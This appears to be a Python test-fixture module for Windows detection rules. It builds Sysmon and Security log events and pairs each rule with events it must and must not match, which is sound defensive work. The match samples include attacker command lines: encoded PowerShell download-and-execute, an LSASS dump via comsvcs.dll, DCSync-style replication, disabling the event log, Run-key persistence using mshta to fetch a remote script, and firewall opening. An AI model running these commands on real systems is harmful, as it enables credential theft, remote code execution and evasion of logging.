"""What Aurora's own rules for Windows must match and must leave alone, as flat JSON of Sysmon and the security log."""

from __future__ import annotations

from typing import Any

import orjson

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
RUNDLL32 = "C:\\Windows\\System32\\rundll32.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
KEYED = "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
EVENTLOG = "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start"
REPLICATE = "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n"
NETSH = "C:\\Windows\\System32\\netsh.exe"
OPENED = "C:\\Users\\ann\\Desktop\\invoice.exe"
CIM = "C:\\Windows\\SysWOW64\\Register-CimProvider.exe"


def sysmon(event_id: int, **fields: Any) -> list[str]:
    """One event of Sysmon."""
    source = {"Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon"}
    return [_line(source | {"EventID": event_id} | fields)]


def started(image: str, command_line: str, parent: str = "", parent_command_line: str = "") -> list[str]:
    """A program's start."""
    parents = {"ParentImage": parent, "ParentCommandLine": parent_command_line} if parent else {}
    return sysmon(1, Image=image, CommandLine=command_line, **parents)


def written(key: str, details: str) -> list[str]:
    """A registry value that was set."""
    return sysmon(13, TargetObject=key, Details=details, Image="C:\\Windows\\System32\\reg.exe", EventType="SetValue")


def security(event_id: int, **fields: Any) -> list[str]:
    """One event of the security log."""
    return [_line({"Channel": "Security", "EventID": event_id} | fields)]


def _line(fields: dict[str, Any]) -> str:
    return orjson.dumps({"EventTime": "2026-11-22 02:00:00", "Hostname": "pc"} | fields).decode()


#: rule -> (what it must match, what it must not)
WINDOWS: dict[str, tuple[list[list[str]], list[list[str]]]] = {
    "windows_powershell_encoded_command": (
        [started(POWERSHELL, KEYED), started(POWERSHELL, KEYED.replace("-enc", "/EncodedCommand"))],
        [
            started(POWERSHELL, "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory-of-the-week.ps1"),
            started(POWERSHELL, "powershell.exe -Encoding UTF8"),
        ],
    ),
    "windows_lsass_dump_comsvcs": (
        [started(RUNDLL32, "rundll32.exe C:\\windows\\System32\\comsvcs.dll MiniDump 756 C:\\x.dmp full")],
        [started(RUNDLL32, "rundll32.exe shell32.dll,Control_RunDLL")],
    ),
    "windows_security_log_cleared": ([security(1102)], [security(4624)]),
    "windows_shell_by_program_in_user_folder": (
        [
            started(CMD, "cmd.exe", "C:\\Users\\ann\\Downloads\\payload.exe", "payload.exe"),
            started(POWERSHELL, "powershell", "c:\\users\\ann\\desktop\\tools\\x.scr", "x.scr"),
        ],
        [
            started(CMD, "cmd.exe", "C:\\Windows\\explorer.exe", "explorer.exe"),
            started("C:\\Windows\\notepad.exe", "notepad", "C:\\Users\\ann\\Downloads\\setup.exe", "setup.exe"),
        ],
    ),
    "windows_eventlog_service_disabled": (
        [written(EVENTLOG, "DWORD (0x00000004)")],
        [
            written(EVENTLOG, "DWORD (0x00000002)"),
            written("HKLM\\System\\CurrentControlSet\\Services\\Fax\\Start", "DWORD (0x00000004)"),
        ],
    ),
    "windows_discovery_by_encoded_powershell": (
        [started("C:\\Windows\\System32\\net.exe", "net localgroup Administrators", POWERSHELL, KEYED)],
        [
            started("C:\\Windows\\System32\\net.exe", "net view", POWERSHELL, "powershell.exe -File C:\\a.ps1"),
            started("C:\\Windows\\notepad.exe", "notepad", POWERSHELL, KEYED),
        ],
    ),
    "windows_directory_replication_by_person": (
        [security(4662, AccessMask="0x100", Properties=REPLICATE, SubjectUserName="ann")],
        [
            security(4662, AccessMask="0x100", Properties=REPLICATE, SubjectUserName="DC01$"),
            security(4662, AccessMask="0x100", Properties=REPLICATE, SubjectUserName="MSOL_0a1b2c"),
            security(4662, AccessMask="0x10", Properties="%%7685", SubjectUserName="ann"),
        ],
    ),
    "windows_run_key_starts_hidden_script": (
        [
            written(RUN, f'"{POWERSHELL}" -c "$x=1;powershell -Win Hidden -enc $x"'),
            written(RUN, "mshta.exe http://127.0.66.66/a.hta"),
        ],
        [
            written(RUN, "C:\\Program Files\\Updater\\updater.exe /background"),
            written(RUN, f"{POWERSHELL} -File C:\\ProgramData\\logon.ps1"),
        ],
    ),
    "windows_cim_provider_registered_from_odd_place": (
        [started(CIM, "Register-CimProvider.exe -Path C:\\ProgramData\\x.dll")],
        [
            started(CIM, "Register-CimProvider.exe -Path C:\\Windows\\System32\\wbem\\x.dll"),
            started(CIM, "Register-CimProvider.exe -Help"),
        ],
    ),
    "windows_firewall_opened_for_interpreter": (
        [started(NETSH, "netsh advfirewall firewall add rule name=x dir=in action=allow program=C:\\py\\python.exe")],
        [
            started(NETSH, "netsh advfirewall firewall add rule name=x dir=in action=allow program=C:\\app\\srv.exe"),
            started(NETSH, "netsh advfirewall firewall delete rule name=python.exe"),
        ],
    ),
    "windows_remote_call_by_program_in_user_folder": (
        [sysmon(3, Image=OPENED, Initiated="true", DestinationPort="135", DestinationIp="192.0.2.6")],
        [
            sysmon(3, Image=OPENED, Initiated="true", DestinationPort="443", DestinationIp="192.0.2.6"),
            sysmon(3, Image=OPENED, Initiated="true", DestinationPort="135", DestinationIp="127.0.0.1"),
            sysmon(3, Image=OPENED, Initiated="false", DestinationPort="445", DestinationIp="192.0.2.6"),
            sysmon(3, Image=RUNDLL32, Initiated="true", DestinationPort="135", DestinationIp="192.0.2.6"),
        ],
    ),
    "windows_remote_service_manager_by_person": (
        [
            security(
                5145,
                ShareName="\\\\*\\IPC$",
                RelativeTargetName="svcctl",
                SubjectUserName="ann",
                IpAddress="127.0.66.66",
            )
        ],
        [
            security(
                5145,
                ShareName="\\\\*\\IPC$",
                RelativeTargetName="svcctl",
                SubjectUserName="PC$",
                IpAddress="127.0.66.66",
            ),
            security(
                5145,
                ShareName="\\\\*\\IPC$",
                RelativeTargetName="srvsvc",
                SubjectUserName="ann",
                IpAddress="127.0.66.66",
            ),
        ],
    ),
}
